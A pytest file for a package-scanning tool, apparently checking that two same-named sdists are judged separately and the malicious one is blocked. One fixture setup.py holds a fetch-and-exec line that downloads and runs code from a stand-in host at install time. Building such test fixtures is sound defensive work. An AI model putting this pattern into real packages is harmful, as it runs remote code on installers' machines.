import io
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest

from ostiary.core.scale import Decision
from ostiary.core.world import World
from ostiary.flows.merge import merge
from ostiary.flows.scan import scan
from ostiary.policy.load import preset


def sdist(path: Path, setup: str) -> str:
    path.parent.mkdir()
    with tarfile.open(path, "w:gz") as tar:
        for name, text in (
            ("PKG-INFO", "Metadata-Version: 2.1\nName: one\nVersion: 1.0\nLicense: MIT\n"),
            ("setup.py", setup),
        ):
            entry = tarfile.TarInfo(f"one-1.0/{name}")
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    return str(path)


@pytest.mark.parametrize("order", [(0, 1), (1, 0)])
def test_files_that_claim_one_release_do_not_speak_for_each_other(
    tmp_path: Path, make_world: Callable[..., World], order: tuple[int, int]
) -> None:
    good = sdist(tmp_path / "a" / "one-1.0.tar.gz", "from setuptools import setup\nsetup()\n")
    bad = sdist(
        tmp_path / "b" / "one-1.0.tar.gz",
        "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid').read())\n",
    )
    paths = [(good, bad)[at] for at in order]
    world = make_world()
    run = merge([one for _, one in scan(paths, preset("balanced"), world)], world)
    assert [verdict.decision for verdict in run.asked].count(Decision.BLOCK) == 1
    assert run.worst is Decision.BLOCK
    assert len({verdict.subject for verdict in run.verdicts}) == 2
